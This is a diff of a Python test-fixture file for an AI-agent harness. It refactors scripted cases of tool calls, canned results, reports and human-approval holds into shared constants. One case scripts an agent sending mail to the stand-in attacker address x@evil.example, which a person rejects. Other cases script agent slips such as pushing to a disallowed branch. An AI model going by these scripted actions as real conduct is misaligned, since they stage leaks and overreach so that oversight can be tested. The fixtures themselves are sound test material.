@@ -77,18 +77,46 @@ def _case(
     return Case(agent, (Round(said, (Part(agent, calls, report, subs),), held),), **more)
 
 
+_SEARCH = call("search_knowledge", "13 March 2026", query="release of the router")
 _OPEN = call("open_repository", "Open: code, branch main")
 _EDIT = call("edit_file", "Changed: src/area.py.", path="src/area.py", old="w + h", new="w * h")
 _EVENT = {
     "summary": "Release", "start": "2026-03-13T09:30:00", "end": "2026-03-13T10:00:00", "timeZone": "Europe/Prague",
     "organizer": "ann@acme.example", "attendees": ["bob@acme.example"],
 }  # fmt: skip
+_COMMIT = call("commit_changes", "Committed: ", message="Multiply")
+_CODED = Part("Coding", (_OPEN, _EDIT), "The function area multiplies now.")
+_COMMITTED = Part(
+    "Git",
+    (
+        call("show_changes", "+    return w * h"),
+        _COMMIT,
+        call("ci_status", "Failed: unit (status, https://ci.example/unit)", branch="main"),
+        call("commit_changes", "There is nothing to commit.", message="Multiply"),
+    ),
+    "It is committed.",
+)
+_PUSHED = Part(
+    "Git",
+    (
+        call("push_branch", "among those that the settings allow", branch="main", commit=COMMIT),
+        call("push_branch", "Done: pushBranch.", branch="jervis/area", commit=COMMIT),
+        call("ci_status", "there is no such branch or commit", branch="jervis/area"),
+    ),
+    "The branch is pushed.",
+)
+_MAIL = {"subject": "Release", "text": "On Friday."}
+_INVITATION = {
+    "to": ["bob@acme.example"], "subject": "Invitation: release", "text": "Please come.", "event": _EVENT
+}  # fmt: skip
+_STEP = {"agent": "Administrative", "action": "Fill in the form.", "parameters": {"days": 3}}
+_COFFEE = {"subject": "coffee", "content": "I like coffee without sugar.", "category": "preference"}
 
 CASES = (
     _case(
         "Research",
         "Find out when the router is released and what https://docs.example.org/plan says about it.",
-        call("search_knowledge", "13 March 2026", query="release of the router"),
+        _SEARCH,
         call("read_source", "Bob tests the failover", sourceUrn=PLAN),
         call("fetch_page", "may not be asked; allowed are: docs.example.com", url="https://docs.example.org/plan"),
         report=f"The release of the router is on Friday, 13 March 2026 [{PLAN}]. The page was not read.",
@@ -103,42 +131,17 @@ CASES = (
         call("edit_file", "stands 0 times", path="src/area.py", old="zz", new=""),
         _EDIT,
         call("run_command", NO_SANDBOX, argv=["pytest", "-q"]),
-        call("commit_changes", "Committed: ", message="Multiply"),
+        _COMMIT,
         report="The function area multiplies now. The tests were not run.",
         changed=("src/area.py",),
     ),
     Case(
         "Git",
         (
-            Round(
-                "Correct the function area in the repository code and commit it.",
-                (
-                    Part("Coding", (_OPEN, _EDIT), "The function area multiplies now."),
-                    Part(
-                        "Git",
-                        (
-                            call("show_changes", "+    return w * h"),
-                            call("commit_changes", "Committed: ", message="Multiply"),
-                            call("ci_status", "Failed: unit (status, https://ci.example/unit)", branch="main"),
-                            call("commit_changes", "There is nothing to commit.", message="Multiply"),
-                        ),
-                        "It is committed.",
-                    ),
-                ),
-            ),
+            Round("Correct the function area in the repository code and commit it.", (_CODED, _COMMITTED)),
             Round(
                 "Push it as the branch jervis/area.",
-                (
-                    Part(
-                        "Git",
-                        (
-                            call("push_branch", "among those that the settings allow", branch="main", commit=COMMIT),
-                            call("push_branch", "Done: pushBranch.", branch="jervis/area", commit=COMMIT),
-                            call("ci_status", "there is no such branch or commit", branch="jervis/area"),
-                        ),
-                        "The branch is pushed.",
-                    ),
-                ),
+                (_PUSHED,),
                 Held("push_branch", "push_branch always needs a person's approval."),
             ),
         ),
@@ -177,7 +180,7 @@ CASES = (
     _case(
         "Wiki",
         "Add the date of the release to page 42 of the wiki.",
-        call("search_knowledge", "13 March 2026", query="release of the router"),
+        _SEARCH,
         call("edit_page", "page 'wiki/7' is not among those that the settings allow", page="7", text="On 13 March."),
         call("edit_page", "Done: editPage.", page="42", text="On 13 March."),
         report="The page has the date of the release now.",
@@ -193,13 +196,7 @@ CASES = (
         call("write_file", "Written: docs/area.md.", path="docs/area.md", content="# Area\n"),
         call("save_draft", "Stored 'area.md'", name="area.md", text="# Area"),
         report="The page about the function area is written.",
-        subs=(
-            Part(
-                "Research",
-                (call("search_knowledge", "13 March 2026", query="release of the router"),),
-                "It is on Friday.",
-            ),
-        ),
+        subs=(Part("Research", (_SEARCH,), "It is on Friday."),),
         changed=("docs/area.md",),
         artifacts=1,
     ),
@@ -242,13 +239,7 @@ CASES = (
         "Announce the release of the router to those who have to know.",
         call("delegate", "three months", agent="Legal", task="Read the contract."),
         call("save_draft", "Stored 'announcement.md'", name="announcement.md", text="On Friday."),
-        call(
-            "send_mail",
-            "A person has rejected this: not to them",
-            to=["x@evil.example"],
-            subject="Release",
-            text="On Friday.",
-        ),
+        call("send_mail", "A person has rejected this: not to them", to=["x@evil.example"], **_MAIL),
         report="The announcement is saved as a draft. No mail was sent.",
         held=Held("send_mail", "to.0 ('x@evil.example') was named by the model alone.", "Rejected"),
         subs=(Part("Legal", (), "The notice period is three months."),),
@@ -258,8 +249,8 @@ CASES = (
         "Email",
         "Answer the question of Eve by a mail to eve@example.com.",
         call("read_source", "when is the release of the router?", sourceUrn=ASK),
-        call("send_mail", "send_mail: to.0: ", to=["Eve <eve@example.com>"], subject="Release", text="On Friday."),
-        call("send_mail", "Done: sendMail.", to=["eve@example.com"], subject="Release", text="On Friday."),
+        call("send_mail", "send_mail: to.0: ", to=["Eve <eve@example.com>"], **_MAIL),
+        call("send_mail", "Done: sendMail.", to=["eve@example.com"], **_MAIL),
         report=f"Eve was answered by mail [{ASK}].",
         outside={"mails": [("eve@example.com", "Release")]},
         sources=(ASK,),
@@ -269,14 +260,7 @@ CASES = (
         "Invite bob@acme.example to the release on 13 March 2026 from half past nine to ten.",
         call("draft_event", "end must be after start", **{**_EVENT, "end": "2026-03-13T09:00:00"}),
         call("draft_event", "Stored 'event.ics'", **_EVENT),
-        call(
-            "send_invitation",
-            "Done: sendMail.",
-            to=["bob@acme.example"],
-            subject="Invitation: release",
-            text="Please come.",
-            event=_EVENT,
-        ),
+        call("send_invitation", "Done: sendMail.", **_INVITATION),
         report="Bob is invited to the release.",
         outside={"mails": [("bob@acme.example", "Invitation: release")]},
         artifacts=1,
@@ -288,12 +272,7 @@ CASES = (
         call("calculate", "It was not calculated: it divides by zero.", expression="360 / 0"),
         call("calculate", "= 360", expression="3 * 120"),
         call("save_draft", "Stored 'form.md'", name="form.md", text="Journey: 360"),
-        call(
-            "propose_procedure",
-            "Saved as procedure ",
-            triggerPattern="journey form",
-            steps=[{"agent": "Administrative", "action": "Fill in the form.", "parameters": {"days": 3}}],
-        ),
+        call("propose_procedure", "Saved as procedure ", triggerPattern="journey form", steps=[_STEP]),
         call("read_procedures", "1. Administrative: Fill in the form. (days: 3)", about="forms"),
         report="The form is filled in, and the procedure is saved.",
         held=Held("propose_procedure", "propose_procedure always needs a person's approval."),
@@ -322,13 +301,7 @@ CASES = (
         "Remember about coffee: I like coffee without sugar.",
         call("user_context", "Nothing is known about the user."),
         call("store_knowledge", "category: ", subject="coffee", content="I like coffee.", category="secret"),
-        call(
-            "store_knowledge",
-            "Remembered: coffee.",
-            subject="coffee",
-            content="I like coffee without sugar.",
-            category="preference",
-        ),
+        call("store_knowledge", "Remembered: coffee.", **_COFFEE),
         call("user_context", "I like coffee without sugar."),
         report="This is remembered about coffee.",
     ),
